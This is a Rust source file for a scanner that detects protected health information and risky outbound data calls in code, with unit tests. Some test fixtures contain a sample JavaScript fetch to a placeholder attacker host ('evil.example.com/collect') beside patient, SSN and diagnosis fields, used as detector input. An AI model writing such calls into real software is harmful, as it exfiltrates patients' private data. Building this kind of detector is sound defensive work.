use crate::config::Config;
use crate::core::registry::DetectorRegistry;
use crate::core::safety;
use crate::core::trust::TrustedDomains;
use crate::models::{
    EgressRisk, Finding, PatternTally, RiskLevel, ScanResult, Severity, SourceFile,
};
use crate::patterns::egress::{all_egress_detectors, data_type_probes, guess_method, EgressDetector};
use crate::patterns::phi::PhiDetector;
use crate::utils::location::{extract_snippet, line_number_at, surrounding_window, truncate_example};
use rayon::prelude::*;
use serde::Deserialize;
use std::collections::HashMap;

/// Risk classification knobs. Defaults preserve the original behavior:
/// more than 2 sensitive categories near an untrusted call is high risk,
/// 1-2 is medium, and a safety score under 80 draws a recommendation.
#[derive(Debug, Clone, Deserialize)]
pub struct RiskThresholds {
    #[serde(default = "default_high_risk_categories")]
    pub high_risk_categories: usize,
    #[serde(default = "default_safety_score_threshold")]
    pub safety_score_threshold: u8,
}

fn default_high_risk_categories() -> usize {
    3
}

fn default_safety_score_threshold() -> u8 {
    80
}

impl Default for RiskThresholds {
    fn default() -> Self {
        Self {
            high_risk_categories: default_high_risk_categories(),
            safety_score_threshold: default_safety_score_threshold(),
        }
    }
}

/// The scanner. Holds only immutable configuration; `scan` is pure, so one
/// engine can serve any number of scans (or threads) without coordination.
pub struct ScanEngine {
    detectors: Vec<&'static PhiDetector>,
    egress_detectors: Vec<&'static EgressDetector>,
    trusted: TrustedDomains,
    thresholds: RiskThresholds,
}

/// Per-file scan output, merged into the final result in input order.
struct FileScan {
    findings: Vec<Finding>,
    /// (detector id, matched text) in match order, for the tally pass.
    matches: Vec<(&'static str, String)>,
    egress_risks: Vec<EgressRisk>,
}

impl Default for ScanEngine {
    fn default() -> Self {
        Self {
            detectors: DetectorRegistry::with_built_ins().get_all(),
            egress_detectors: all_egress_detectors(),
            trusted: TrustedDomains::default(),
            thresholds: RiskThresholds::default(),
        }
    }
}

impl ScanEngine {
    pub fn new(config: &Config) -> Self {
        let registry = DetectorRegistry::with_built_ins();
        Self {
            detectors: registry.enabled(config.min_severity, &config.exclude_detectors),
            egress_detectors: all_egress_detectors(),
            trusted: TrustedDomains::with_extra(&config.trusted_domains),
            thresholds: config.thresholds.clone(),
        }
    }

    /// Scan a set of in-memory files. Identical inputs always produce an
    /// identical result; no state survives the call.
    pub fn scan(&self, files: &[SourceFile]) -> ScanResult {
        let file_scans: Vec<FileScan> = files
            .par_iter()
            .map(|file| self.scan_file(file))
            .collect();

        let mut findings = Vec::new();
        let mut egress_risks = Vec::new();
        let mut counts: HashMap<&'static str, (usize, Vec<String>)> = HashMap::new();

        for scan in file_scans {
            findings.extend(scan.findings);
            egress_risks.extend(scan.egress_risks);
            for (detector_id, matched) in scan.matches {
                let entry = counts.entry(detector_id).or_insert_with(|| (0, Vec::new()));
                entry.0 += 1;
                if entry.1.len() < 3 {
                    entry.1.push(truncate_example(&matched));
                }
            }
        }

        // Tallies in catalogue order; zero-count detectors never appear.
        let phi_patterns: Vec<PatternTally> = self
            .detectors
            .iter()
            .filter_map(|detector| {
                counts.get(detector.id).map(|(count, examples)| PatternTally {
                    name: detector.name.to_string(),
                    category: detector.category.as_str().to_string(),
                    count: *count,
                    examples: examples.clone(),
                })
            })
            .collect();

        let all_code = concatenate(files);
        let safety_report = safety::grade_project(&all_code);
        let model_safety_score = safety_report.safety_score;

        let recommendations =
            self.build_recommendations(&findings, &egress_risks, &counts, model_safety_score);

        ScanResult {
            findings,
            phi_patterns,
            egress_risks,
            model_safety_score,
            model_safety_checks: vec![safety_report],
            recommendations,
        }
    }

    fn scan_file(&self, file: &SourceFile) -> FileScan {
        let path = file.path_display();
        let content = &file.content;

        let mut findings = Vec::new();
        let mut matches = Vec::new();
        for detector in &self.detectors {
            for m in detector.regex.find_iter(content) {
                matches.push((detector.id, m.as_str().to_string()));
                findings.push(Finding {
                    file: path.clone(),
                    line: line_number_at(content, m.start()),
                    kind: detector.name.to_string(),
                    severity: detector.severity,
                    description: detector.description.to_string(),
                    snippet: Some(extract_snippet(content, m.start(), m.end())),
                    suggestion: detector.suggestion.to_string(),
                    pattern: Some(detector.id.to_string()),
                });
            }
        }

        let mut egress_risks = Vec::new();
        for detector in &self.egress_detectors {
            for caps in detector.regex.captures_iter(content) {
                let whole = caps.get(0).map(|m| (m.start(), m.end(), m.as_str()));
                let Some((start, end, matched)) = whole else {
                    continue;
                };
                // A construct with no readable target URL cannot be checked
                // against the allow-list, so it is skipped outright.
                if !detector.captures_url {
                    continue;
                }
                let Some(url) = caps.get(1).map(|m| m.as_str()) else {
                    continue;
                };
                if self.trusted.is_trusted(url) {
                    continue;
                }

                let window = surrounding_window(content, start, end);
                let data_types: Vec<String> = data_type_probes()
                    .iter()
                    .filter(|probe| probe.regex.is_match(window))
                    .map(|probe| probe.tag.to_string())
                    .collect();

                egress_risks.push(EgressRisk {
                    endpoint: url.to_string(),
                    method: guess_method(matched).to_string(),
                    file: path.clone(),
                    line: line_number_at(content, start),
                    risk_level: self.classify_risk(data_types.len()),
                    data_types: if data_types.is_empty() {
                        vec!["unknown".to_string()]
                    } else {
                        data_types
                    },
                    suggestion: format!(
                        "Verify that {} has a BAA and is HIPAA compliant before sending PHI.",
                        url
                    ),
                });
            }
        }

        FileScan {
            findings,
            matches,
            egress_risks,
        }
    }

    fn classify_risk(&self, categories: usize) -> RiskLevel {
        if categories >= self.thresholds.high_risk_categories {
            RiskLevel::High
        } else if categories > 0 {
            RiskLevel::Medium
        } else {
            RiskLevel::Low
        }
    }

    fn build_recommendations(
        &self,
        findings: &[Finding],
        egress_risks: &[EgressRisk],
        counts: &HashMap<&'static str, (usize, Vec<String>)>,
        safety_score: u8,
    ) -> Vec<String> {
        let mut recommendations = Vec::new();

        if findings.iter().any(|f| f.severity == Severity::Critical) {
            recommendations.push(
                "URGENT: Critical PHI patterns detected. Review and remediate immediately."
                    .to_string(),
            );
        }

        if egress_risks.iter().any(|r| r.risk_level == RiskLevel::High) {
            recommendations.push(
                "High-risk external data transmissions detected. Verify BAA coverage.".to_string(),
            );
        }

        if safety_score < self.thresholds.safety_score_threshold {
            recommendations.push(
                "AI model safety score is below threshold. Review AI integration practices."
                    .to_string(),
            );
        }

        if counts.get("ssn").is_some_and(|(count, _)| *count > 0) {
            recommendations.push(
                "SSN data detected. Implement tokenization and remove from non-production code."
                    .to_string(),
            );
        }

        if counts.get("credit-card").is_some_and(|(count, _)| *count > 0) {
            recommendations.push(
                "Credit card data detected. Use PCI-compliant payment processors only.".to_string(),
            );
        }

        if findings.is_empty() && egress_risks.is_empty() {
            recommendations
                .push("No PHI patterns or egress risks detected. Continue to monitor.".to_string());
        }

        recommendations
    }
}

/// Concatenation the safety checklist runs over, one file per line group.
fn concatenate(files: &[SourceFile]) -> String {
    let mut all_code = String::new();
    for file in files {
        all_code.push_str(&file.content);
        all_code.push('\n');
    }
    all_code
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::path::PathBuf;

    fn file(path: &str, content: &str) -> SourceFile {
        SourceFile::new(PathBuf::from(path), content.to_string())
    }

    #[test]
    fn test_ssn_finding_with_line_number() {
        let engine = ScanEngine::default();
        let result = engine.scan(&[file("a.ts", "// header\nconst ssn = \"123-45-6789\";\n")]);

        let ssn_findings: Vec<&Finding> = result
            .findings
            .iter()
            .filter(|f| f.kind == "Social Security Number")
            .collect();
        assert_eq!(ssn_findings.len(), 1);
        assert_eq!(ssn_findings[0].severity, Severity::Critical);
        assert_eq!(ssn_findings[0].line, 2);
        assert_eq!(ssn_findings[0].file, "a.ts");
        assert!(ssn_findings[0]
            .snippet
            .as_deref()
            .unwrap()
            .contains("123-45-6789"));

        assert!(result.recommendations.iter().any(|r| r.starts_with("URGENT")));
        assert!(result
            .recommendations
            .iter()
            .any(|r| r.starts_with("SSN data detected")));
    }

    #[test]
    fn test_mrn_end_to_end() {
        let engine = ScanEngine::default();
        let result = engine.scan(&[file("a.ts", r#"const x = "MRN: AB123456";"#)]);

        assert_eq!(result.findings.len(), 1);
        let finding = &result.findings[0];
        assert_eq!(finding.kind, "Medical Record Number");
        assert_eq!(finding.severity, Severity::Critical);
        assert_eq!(finding.line, 1);

        assert_eq!(result.phi_patterns.len(), 1);
        let tally = &result.phi_patterns[0];
        assert_eq!(tally.name, "Medical Record Number");
        assert_eq!(tally.category, "identifier");
        assert_eq!(tally.count, 1);
        assert_eq!(tally.examples.len(), 1);
    }

    #[test]
    fn test_clean_input_gets_clean_bill() {
        let engine = ScanEngine::default();
        let result = engine.scan(&[file("a.ts", "export const MAX = 1;\n")]);

        assert!(result.findings.is_empty());
        assert!(result.egress_risks.is_empty());
        assert!(result.phi_patterns.is_empty());
        assert!(result
            .recommendations
            .contains(&"No PHI patterns or egress risks detected. Continue to monitor.".to_string()));
    }

    #[test]
    fn test_scan_is_idempotent() {
        let engine = ScanEngine::default();
        let files = vec![
            file("a.ts", "const ssn = \"123-45-6789\";\n"),
            file(
                "b.ts",
                "fetch(\"https://evil.example.com/collect\"); // patient ssn diagnosis\n",
            ),
        ];
        let first = engine.scan(&files);
        let second = engine.scan(&files);
        assert_eq!(first, second);
    }

    #[test]
    fn test_trusted_egress_is_dropped() {
        let engine = ScanEngine::default();
        let result = engine.scan(&[file(
            "api.ts",
            "const r = await fetch(\"https://api.openai.com/v1/chat/completions\");\n",
        )]);
        assert!(result.egress_risks.is_empty());
    }

    #[test]
    fn test_localhost_axios_is_dropped_regardless_of_payload_name() {
        // Trusted hosts are dropped before any keyword inspection, so even
        // a payload argument named "patientRecord" produces no risk entry.
        let engine = ScanEngine::default();
        let result = engine.scan(&[file(
            "sync.ts",
            "axios.post('http://localhost:4000/api/data', patientRecord)\n",
        )]);
        assert!(result.egress_risks.is_empty());
    }

    #[test]
    fn test_untrusted_egress_with_three_categories_is_high_risk() {
        let engine = ScanEngine::default();
        let code = "const payload = { patient: p, ssn: s, diagnosis: d };\n\
                    fetch(\"https://evil.example.com/collect\");\n";
        let result = engine.scan(&[file("leak.ts", code)]);

        assert_eq!(result.egress_risks.len(), 1);
        let risk = &result.egress_risks[0];
        assert_eq!(risk.endpoint, "https://evil.example.com/collect");
        assert_eq!(risk.risk_level, RiskLevel::High);
        assert!(risk.data_types.contains(&"patient_data".to_string()));
        assert!(risk.data_types.contains(&"ssn".to_string()));
        assert_eq!(risk.line, 2);
        assert_eq!(risk.method, "GET");

        assert!(result
            .recommendations
            .iter()
            .any(|r| r.starts_with("High-risk external data transmissions")));
    }

    #[test]
    fn test_untrusted_egress_without_keywords_is_low_risk() {
        let engine = ScanEngine::default();
        let result = engine.scan(&[file(
            "ping.ts",
            "fetch(\"https://telemetry.example.com/beat\");\n",
        )]);
        assert_eq!(result.egress_risks.len(), 1);
        assert_eq!(result.egress_risks[0].risk_level, RiskLevel::Low);
        assert_eq!(result.egress_risks[0].data_types, vec!["unknown".to_string()]);
    }

    #[test]
    fn test_xhr_without_url_produces_no_risk() {
        let engine = ScanEngine::default();
        let result = engine.scan(&[file("xhr.ts", "const req = new XMLHttpRequest();\n")]);
        assert!(result.egress_risks.is_empty());
    }

    #[test]
    fn test_tally_examples_capped_at_three() {
        let engine = ScanEngine::default();
        let code = "111-11-1111\n222-22-2222\n333-33-3333\n444-44-4444\n";
        let result = engine.scan(&[file("a.ts", code)]);

        let ssn = result
            .phi_patterns
            .iter()
            .find(|t| t.name == "Social Security Number")
            .unwrap();
        assert_eq!(ssn.count, 4);
        assert_eq!(ssn.examples.len(), 3);
        assert_eq!(ssn.examples[0], "111-11-1111");
    }

    #[test]
    fn test_safety_checklist_runs_over_concatenation() {
        let engine = ScanEngine::default();
        // Provider name in one file, BAA mention in another: the checklist
        // sees both because it runs over the joined text.
        let result = engine.scan(&[
            file("ai.ts", "import OpenAI from 'openai';\n"),
            file("docs.ts", "// Covered by our BAA\n"),
        ]);
        let checks = &result.model_safety_checks[0].checks;
        let baa = checks.iter().find(|c| c.name == "BAA Coverage").unwrap();
        assert!(baa.passed);
        assert!(baa.details.contains("openai"));
    }

    #[test]
    fn test_min_severity_filter_limits_detectors() {
        let config = Config {
            min_severity: Severity::Critical,
            ..Config::default()
        };
        let engine = ScanEngine::new(&config);
        // Email is warning severity and must not fire.
        let result = engine.scan(&[file("a.ts", "contact: someone@example.com\n")]);
        assert!(result.findings.is_empty());
    }
}
